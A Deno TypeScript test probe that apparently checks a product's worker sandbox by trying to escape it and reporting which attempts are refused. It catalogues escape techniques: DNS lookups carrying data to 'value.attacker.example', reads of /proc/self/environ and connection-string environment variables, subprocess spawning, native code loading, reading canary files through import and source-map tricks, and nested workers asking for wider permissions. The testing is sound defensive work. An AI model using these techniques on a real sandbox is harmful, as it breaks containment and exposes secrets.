/**
 * Takes the place of the product's worker, and so gets exactly its permissions from the product's
 * supervisor. It tries everything that the sandbox must refuse, and prints what came of it.
 *
 * What to do stands in the URN of the job `run`, as JSON.
 */
import type { FromWorker, ToWorker } from "../../src/sandbox/protocol.ts";

/** What the test asks of the probe. */
export interface ProbeOrder {
  /** How to end; `report` tries everything first. */
  readonly then:
    | "report"
    | "babble"
    | "throw"
    | "reject"
    | "close"
    | "exit"
    | "fill_memory"
    | "spin";
  /** The one host and port that the sandbox was given. */
  readonly allowed?: { readonly hostname: string; readonly port: number };
  /** A port on the same host that it was not given, on which the test listens. */
  readonly forbiddenPort?: number;
  /** A file that exists. */
  readonly file?: string;
  /** Files that nobody granted, each of which holds the word "canary" in a form of its own. */
  readonly canaries?: Canaries;
}

/** Paths. */
export interface Canaries {
  /** `{"word": "…"}` */
  readonly json: string;
  /** A module whose default export is the word, and which posts the word if it runs as a worker. */
  readonly javaScript: string;
  /** Two lines, each of which is the word alone. */
  readonly text: string;
}

/** What came of each attempt: `done`, or the name of what refused it. */
export type ProbeReport = Readonly<Record<string, string>>;

/** What the supervisor knows nothing of, and one message out of its turn. */
const BABBLE: readonly unknown[] = [
  null,
  undefined,
  0n,
  NaN,
  "finished",
  [],
  new Map(),
  new Error("x"),
  new Uint8Array(9),
  {},
  { type: null },
  { type: "no such" },
  { type: "finished" },
  { type: "finished", exitCode: "7" },
  { type: "finished", exitCode: NaN },
  { type: "finished", exitCode: -1 },
  { type: "finished", exitCode: 2 ** 40 },
  { type: "died" },
  { type: "died", kind: "x", frames: null },
  { type: "died", kind: {}, frames: [] },
  { type: "loaded" },
];

type Attempt = () => unknown;
type Targets = Required<Omit<ProbeOrder, "then">>;

const scope = globalThis as unknown as {
  postMessage(message: FromWorker): void;
  onmessage: (event: MessageEvent<ToWorker>) => void;
  close(): void;
};

// deno-lint-ignore no-explicit-any -- what is tried includes what the types do not know
const anyDeno = Deno as any;
// deno-lint-ignore no-explicit-any
const node = (name: string): Promise<any> => import(`node:${name}`);

scope.onmessage = async ({ data }) => {
  if (data.type !== "start" || data.command.name !== "run") return;
  const [, name] = data.command.runs[0]!.dataset.urn.split(",");
  const { then, ...targets }: ProbeOrder = JSON.parse(atob(name!));
  if (then === "report") {
    // some of Node's modules throw what was refused where nobody can catch it
    globalThis.addEventListener("error", (event) => event.preventDefault());
    globalThis.addEventListener("unhandledrejection", (event) => event.preventDefault());
    console.log(JSON.stringify(await tryAll(attempts(targets as Targets))));
    scope.postMessage({ type: "finished", exitCode: 0 });
  } else if (then === "babble") {
    // `loaded` a second time would bring the order to babble again, without end
    for (const message of BABBLE) (scope.postMessage as (message: unknown) => void)(message);
    scope.postMessage({ type: "finished", exitCode: 7 });
  } else if (then === "throw") setTimeout(() => fail());
  else if (then === "reject") Promise.reject(new TypeError("of the probe"));
  else if (then === "close") scope.close();
  else if (then === "exit") Deno.exit(0);
  else if (then === "spin") {
    console.error(JSON.stringify({ event: "spinning" }));
    for (;;);
  } else for (const kept: unknown[] = [];;) kept.push(new Array(1e6).fill(kept.length));
};
scope.postMessage({ type: "loaded" });

function fail(): never {
  throw new TypeError("of the probe");
}

async function tryAll(attempts: Record<string, Attempt>): Promise<ProbeReport> {
  const report: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const slow = new Promise((resolve) => setTimeout(() => resolve(new Error("NoAnswer")), 2000));
      const result = await Promise.race([Promise.resolve(attempt()), slow]);
      if (result instanceof Error) throw result;
      report[name] = "done";
    } catch (error) {
      const { name: kind, code } = error as { name?: string; code?: string };
      report[name] = code ?? kind ?? "unknown";
    }
  }
  return report;
}

function attempts(targets: Targets): Record<string, Attempt> {
  return {
    ...allowedConnections(targets),
    ...connections(targets),
    ...nodeConnections(targets),
    ...listening(targets),
    ...names(),
    ...files(targets),
    ...environment(),
    ...processes(),
    ...nativeCode(targets),
    ...system(),
    ...imports(targets),
    ...importsOfFiles(targets),
    ...internals(),
    ...sourceLines(targets),
    ...nestedWorkers(targets),
  };
}

/** So that the refusals below mean something. */
function allowedConnections({ allowed }: Targets): Record<string, Attempt> {
  return {
    "allowed: Deno.connect": async () => (await Deno.connect(allowed)).close(),
    "allowed: fetch": async () => {
      const response = await fetch(`http://${allowed.hostname}:${allowed.port}/`);
      await response.body?.cancel();
    },
    "allowed: node:net": async () =>
      await opened((await node("net")).connect(nodeOptions(allowed))),
  };
}

function connections({ allowed, forbiddenPort: port }: Targets): Record<string, Attempt> {
  const { hostname } = allowed;
  const at = `${hostname}:${port}`;
  const proxied = (proxy: unknown) => async () => {
    using client = anyDeno.createHttpClient({ proxy });
    await (await fetch(`http://${hostname}:${allowed.port}/`, { client } as RequestInit)).text();
  };
  return {
    "connect: another port": () => Deno.connect({ hostname, port }),
    "connect: another address": () => Deno.connect({ hostname: "127.0.0.2", port: allowed.port }),
    "connect: another name": () => Deno.connect({ hostname: "localhost", port: allowed.port }),
    "connect: the internet": () => Deno.connect({ hostname: "192.0.2.1", port: 443 }),
    "connectTls": () => Deno.connectTls({ hostname, port }),
    "connect: a Unix socket": () =>
      anyDeno.connect({ transport: "unix", path: "/run/postgresql/.s.PGSQL.5432" }),
    "fetch: http": () => fetch(`http://${at}/`),
    "fetch: https": () => fetch(`https://${at}/`),
    "fetch: a redirect": async () =>
      await (await fetch(`http://${hostname}:${allowed.port}/redirect?to=${port}`)).text(),
    "fetch: through a proxy": proxied({ url: `http://${at}` }),
    "fetch: through a SOCKS proxy": proxied({ url: `socks5://${at}` }),
    "WebSocket": () => awaitEvent(new WebSocket(`ws://${at}/`), "open"),
    "EventSource": () => awaitEvent(new EventSource(`http://${at}/`), "open"),
    "WebSocketStream": () =>
      new (globalThis as never as { WebSocketStream: new (url: string) => { opened: unknown } })
        .WebSocketStream(`ws://${at}/`).opened,
    "connectQuic": () => anyDeno.connectQuic({ hostname, port, alpnProtocols: ["x"] }),
    "WebTransport": () =>
      new (globalThis as never as { WebTransport: new (url: string) => { ready: unknown } })
        .WebTransport(`https://${at}/`).ready,
  };
}

function nodeConnections({ allowed, forbiddenPort: port }: Targets): Record<string, Attempt> {
  const { hostname } = allowed;
  const target = { host: hostname, port };
  return {
    "node:net": async () => await opened((await node("net")).connect(target)),
    "node:net: another name": async () =>
      await opened((await node("net")).connect({ host: "localhost", port: allowed.port })),
    "node:net: a Unix socket": async () =>
      await opened((await node("net")).connect({ path: "/run/postgresql/.s.PGSQL.5432" })),
    "node:tls": async () =>
      await opened((await node("tls")).connect({ ...target, rejectUnauthorized: false })),
    "node:http": async () => await opened((await node("http")).get(target), "response"),
    "node:https": async () =>
      await opened((await node("https")).get({ ...target, rejectUnauthorized: false }), "response"),
    "node:http2": async () =>
      await opened((await node("http2")).connect(`http://${hostname}:${port}`)),
    "node:dgram": async () => {
      const socket = (await node("dgram")).createSocket("udp4");
      await new Promise((resolve, reject) => {
        socket.on("error", reject);
        socket.send("out", port, hostname, (error: unknown) => error ? reject(error) : resolve(0));
      }).finally(() => socket.close());
    },
  };
}

function listening({ forbiddenPort }: Targets): Record<string, Attempt> {
  const port = forbiddenPort === 65535 ? 65534 : forbiddenPort + 1;
  return {
    "listen": () => Deno.listen({ hostname: "127.0.0.1", port }),
    "listen: any address": () => Deno.listen({ port: 0 }),
    "listenDatagram": () => anyDeno.listenDatagram({ transport: "udp", port: 0 }),
    "serve": () => Deno.serve({ port, onListen: () => {} }, () => new Response()),
    "node:net: listen": async () => {
      const server = (await node("net")).createServer();
      await opened(server.listen(port), "listening");
    },
    "node:inspector": async () => (await node("inspector")).open(port),
  };
}

/** A name that is looked up can carry values out too. */
function names(): Record<string, Attempt> {
  return {
    "resolveDns": () => Deno.resolveDns("value.attacker.example", "A"),
    "resolveDns: of one's own server": () =>
      Deno.resolveDns("value.attacker.example", "A", {
        nameServer: { ipAddr: "127.0.0.1", port: 5353 },
      }),
    "node:dns: lookup": async () =>
      await (await node("dns/promises")).lookup("value.attacker.example"),
    "node:dns: resolve": async () =>
      await (await node("dns/promises")).resolve4("value.attacker.example"),
    "fetch: another name": () => fetch("http://value.attacker.example/"),
  };
}

function files({ file }: Targets): Record<string, Attempt> {
  const open = async (options: unknown) => (await anyDeno.open(file, options)).close();
  return {
    "readTextFile": () => Deno.readTextFile(file),
    "readTextFileSync": () => Deno.readTextFileSync(file),
    "open": () => open({ read: true }),
    "open to write": () => open({ write: true }),
    "readDir": async () => await Array.fromAsync(Deno.readDir("/")),
    "stat": () => Deno.stat(file),
    "realPath": () => Deno.realPath("."),
    "cwd": () => Deno.cwd(),
    "execPath": () => Deno.execPath(),
    "watchFs": () => Deno.watchFs("/tmp"),
    "own environment in /proc": () => Deno.readTextFile("/proc/self/environ"),
    "own memory in /proc": () => Deno.open("/proc/self/mem", { read: true, write: true }),
    "writeTextFile": () => Deno.writeTextFile("/tmp/tokenize-sandbox-probe", "x"),
    "append": () => Deno.writeTextFile(file, "x", { append: true }),
    "makeTempDir": () => Deno.makeTempDir(),
    "remove": () => Deno.remove(file),
    "rename": () => Deno.rename(file, `${file}.moved`),
    "symlink": () => Deno.symlink(file, `${file}.link`),
    "chmod": () => Deno.chmod(file, 0o777),
    "openKv": () => anyDeno.openKv(":memory:"),
    "openKv: a file": () => anyDeno.openKv(`${file}.kv`),
    "caches": () => caches.open("x"),
    "fetch: a file": async () => await (await fetch(`file://${file}`)).text(),
    "node:fs: read": async () => (await node("fs")).readFileSync(file),
    "node:fs: write": async () =>
      (await node("fs")).writeFileSync("/tmp/tokenize-sandbox-probe", "x"),
    "node:fs: stat": async () => (await node("fs")).statSync(file),
    "node:sqlite": async () => new (await node("sqlite")).DatabaseSync(`${file}.sqlite`),
    "node:v8: heap snapshot": async () =>
      (await node("v8")).writeHeapSnapshot("/tmp/tokenize-sandbox-probe"),
  };
}

function environment(): Record<string, Attempt> {
  return {
    "env.get": () => Deno.env.get("PG_CONN_STR"),
    "env.get: another": () => Deno.env.get("HOME"),
    "env.toObject": () => Deno.env.toObject(),
    "env.set": () => Deno.env.set("PORT", "1"),
    "node: process.env": async () => (await node("process")).default.env.PG_CONN_STR,
    "node: all of process.env": async () => Object.keys((await node("process")).default.env),
  };
}

function processes(): Record<string, Attempt> {
  return {
    "Command": () => new Deno.Command("/bin/true").output(),
    "Command: spawn": () => new Deno.Command("/bin/true").spawn(),
    "kill": () => Deno.kill(1, "SIGCONT"),
    "node:child_process: exec": async () => (await node("child_process")).execSync("/bin/true"),
    "node:child_process: spawn": async () => {
      const child = (await node("child_process")).spawn("/bin/true");
      await opened(child, "spawn");
    },
    "node:child_process: fork": async () => (await node("child_process")).fork("/bin/true"),
    "node: process.kill": async () => (await node("process")).default.kill(1, "SIGCONT"),
    "node: process.chdir": async () => (await node("process")).default.chdir("/"),
  };
}

function nativeCode({ file }: Targets): Record<string, Attempt> {
  return {
    "dlopen": () => Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }),
    "node: process.dlopen": async () =>
      (await node("process")).default.dlopen({ exports: {} }, file),
    "node: require an addon": async () =>
      (await node("module")).createRequire("file:///tmp/")(`${file}.node`),
    "UnsafePointerView": () =>
      new Deno.UnsafePointerView(Deno.UnsafePointer.create(4096n)!).getInt32(),
  };
}

function system(): Record<string, Attempt> {
  return {
    "hostname": () => Deno.hostname(),
    "osRelease": () => Deno.osRelease(),
    "networkInterfaces": () => Deno.networkInterfaces(),
    "systemMemoryInfo": () => Deno.systemMemoryInfo(),
    "loadavg": () => Deno.loadavg(),
    "uid": () => Deno.uid(),
    "node:os: hostname": async () => (await node("os")).hostname(),
    "node:os: userInfo": async () => (await node("os")).userInfo(),
    "node: process.getuid": async () => (await node("process")).default.getuid(),
  };
}

function imports({ allowed, forbiddenPort, file }: Targets): Record<string, Attempt> {
  const load = (specifier: string) => () => import(specifier);
  return {
    "import: another port": load(`http://${allowed.hostname}:${forbiddenPort}/module.js`),
    "import: even the allowed host": load(`http://${allowed.hostname}:${allowed.port}/module.js`),
    "import: https": load("https://raw.githubusercontent.com/denoland/std/main/assert/mod.ts"),
    "import: npm": load("npm:left-pad@1.3.0"),
    "import: jsr": load("jsr:@std/assert@1.0.0"),
    "node: require a file": async () => (await node("module")).createRequire("file:///tmp/")(file),
  };
}

/**
 * The module loader of a compiled program takes what is not embedded from the disk, without asking for
 * permission to read. Each attempt counts only if the file's contents were seen.
 */
function importsOfFiles(
  { canaries: { json, javaScript, text } }: Targets,
): Record<string, Attempt> {
  const asJson = { with: { type: "json" } };
  const reExport = (path: string, attributes = "") =>
    `data:text/javascript,export { default } from "file://${path}" ${
      encodeURIComponent(attributes)
    }`;
  const upwards = new URL("..%2f..%2f..%2f..%2f..", import.meta.url).href;
  const shown = (value: unknown) => {
    if (!JSON.stringify(value).includes("canary")) throw new Error("NotSeen");
  };
  const load = (specifier: string, options?: ImportCallOptions) => async () =>
    shown((await import(specifier, options)).default);
  const errorOf = (specifier: string, options?: ImportCallOptions) => async () =>
    shown(await import(specifier, options).then(() => "", (error) => `${error}${error.stack}`));
  return {
    "import: JSON": load(`file://${json}`, asJson),
    "import: JavaScript": load(`file://${javaScript}`),
    "import: JavaScript, by path": load(javaScript),
    "import: JavaScript, with a query": load(`file://${javaScript}?x`),
    "import: JavaScript, with a host": load(`file://localhost${javaScript}`),
    "import: JavaScript, encoded": load(`file://${javaScript.replace("js", "%6as")}`),
    "import: JavaScript, upwards": load(upwards + encodeURIComponent(javaScript)),
    "import: JSON, by a module of one's own": load(reExport(json, 'with { type: "json" }')),
    "import: JavaScript, by a module of one's own": load(reExport(javaScript)),
    "import: text": load(`file://${text}`, { with: { type: "text" } }),
    "import: bytes": load(`file://${text}`, { with: { type: "bytes" } }),
    "import: the error of text": errorOf(`file://${text}`),
    "import: the error of text as JSON": errorOf(`file://${text}`, asJson),
    "node:vm: import": async () => {
      const { Script, constants } = await node("vm");
      const importModuleDynamically = constants.USE_MAIN_CONTEXT_DEFAULT_LOADER;
      const script = new Script(`import("file://${javaScript}")`, { importModuleDynamically });
      shown((await script.runInThisContext()).default);
    },
    "node: require JSON": async () =>
      shown((await node("module")).createRequire("file:///tmp/")(json)),
    "worker: JavaScript on disk": () => messageOf(`file://${javaScript}`).then(shown),
    "worker: the error of text": () =>
      messageOf(`file://${text}`).then(shown, ({ message }) => shown(message)),
    "node:worker_threads: JavaScript on disk": async () => {
      const { Worker } = await node("worker_threads");
      const worker = new Worker(new URL(`file://${javaScript}`));
      shown(
        await new Promise((resolve, reject) => worker.on("message", resolve).on("error", reject)),
      );
    },
  };
}

/** What stands in the way of those attempts: the runtime's internals, and the means to start workers. */
function internals(): Record<string, Attempt> {
  const isWorker = (value: unknown) =>
    typeof value === "function" && /^(Node)?Worker$/.test(value.name);
  const inReach = (isWanted: (value: object) => boolean) => async () => {
    const { builtinModules } = (await node("module")).default;
    const { default: process } = await node("process");
    const roots = builtinModules.map((name: string) => process.getBuiltinModule(`node:${name}`));
    for (const value of reachableFrom([globalThis, ...roots])) if (isWanted(value)) return;
    throw new Error("NotFound");
  };
  return {
    "internals: in reach": inReach((value) => "destructureError" in value || "op_kill" in value),
    "worker class: in reach": inReach(isWorker),
    "worker class: by import": async () => new (await node("worker_threads")).Worker("data:,"),
  };
}

/** Every object that properties, accessors and prototypes lead to. */
function reachableFrom(roots: readonly unknown[]): ReadonlySet<object> {
  const found = new Set<object>();
  const queue = [...roots];
  const attempt = (read: () => unknown) => {
    try {
      queue.push(read());
    } catch {
      // not available
    }
  };
  while (queue.length > 0) {
    const value = queue.pop();
    const isObject = (typeof value === "object" && value !== null) || typeof value === "function";
    if (!isObject || found.has(value)) continue;
    found.add(value);
    attempt(() => Object.getPrototypeOf(value));
    for (const key of Reflect.ownKeys(value)) {
      attempt(() => Object.getOwnPropertyDescriptor(value, key)?.get);
      attempt(() => Reflect.get(value, key));
    }
  }
  return found;
}

/** The runtime shows the line in which an error arose, read from the file that the code names. */
function sourceLines({ canaries: { text } }: Targets): Record<string, Attempt> {
  const lineOf = (thrower: () => unknown) => {
    try {
      thrower();
    } catch (error) {
      const { sourceLine } = anyDeno[anyDeno.internal].core.destructureError(error);
      if (!sourceLine.includes("canary")) throw new Error("NotSeen");
    }
  };
  const sourceMap = { version: 3, sources: [`file://${text}`], names: [], mappings: "AACA" };
  return {
    "source line: of a script": async () => {
      const { Script } = await node("vm");
      const script = new Script("\nthrow new Error()", { filename: `file://${text}` });
      lineOf(() => script.runInThisContext());
    },
    "source line: by a source map": async () => {
      const map = `data:application/json;base64,${btoa(JSON.stringify(sourceMap))}`;
      const code = `export default () => { throw new Error(); };\n//# sourceMappingURL=${map}`;
      const module = await import(`data:text/javascript,${encodeURIComponent(code)}`);
      lineOf(module.default);
    },
  };
}

/** Nor may a worker within the worker have what this one has not. */
function nestedWorkers(targets: Targets): Record<string, Attempt> {
  const code = `
    const attempts = {
      connect: () => Deno.connect({ hostname: "${targets.allowed.hostname}", port: ${targets.forbiddenPort} }),
      read: () => Deno.readTextFile("${targets.file}"),
      env: () => Deno.env.get("HOME"),
      run: () => new Deno.Command("/bin/true").output(),
    };
    const done = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      try { await attempt(); done.push(name); } catch { /* as it should */ }
    }
    postMessage(done);`;
  const url = `data:text/javascript,${encodeURIComponent(code)}`;
  const nested = (permissions: unknown) => async () => {
    const options = {
      type: "module",
      ...(permissions === undefined ? {} : { deno: { permissions } }),
    };
    const done = await messageOf(url, options as WorkerOptions) as string[];
    if (done.length === 0) throw new Error("nothing could be done there");
  };
  return {
    "worker: as this one": nested(undefined),
    "worker: inheriting": nested("inherit"),
    "worker: all of the network": nested({ net: true }),
    "worker: another port": nested({
      net: [`${targets.allowed.hostname}:${targets.forbiddenPort}`],
    }),
    "worker: reading": nested({ read: true }),
    "worker: environment": nested({ env: true }),
    "worker: subprocesses": nested({ run: true }),
    "worker: everything": nested({ net: true, env: true, read: true, write: true, run: true }),
    "permission asked for": async () => {
      const { state } = await Deno.permissions.request({ name: "read" });
      if (state !== "granted") throw new Error(state);
    },
  };
}

/** The first message of a worker. Throws its error. */
async function messageOf(url: string, options: WorkerOptions = { type: "module" }) {
  const worker = new Worker(url, options);
  try {
    return await new Promise((resolve, reject) => {
      worker.onmessage = ({ data }) => resolve(data);
      worker.onerror = (event) => {
        event.preventDefault();
        reject(new Error(event.message));
      };
    });
  } finally {
    worker.terminate();
  }
}

const nodeOptions = ({ hostname, port }: { hostname: string; port: number }) => ({
  host: hostname,
  port,
});

// deno-lint-ignore no-explicit-any -- a socket, a request or a server of Node's
function opened(emitter: any, event = "connect"): Promise<void> {
  return new Promise<void>((resolve, reject) => {
    emitter.once(event, () => resolve());
    emitter.once("error", reject);
  }).finally(() => emitter.destroy?.() ?? emitter.close?.());
}

function awaitEvent(target: WebSocket | EventSource, event: string): Promise<void> {
  return new Promise<void>((resolve, reject) => {
    target.addEventListener(event, () => resolve());
    target.addEventListener("error", () => reject(new Error("refused")));
  }).finally(() => target.close());
}
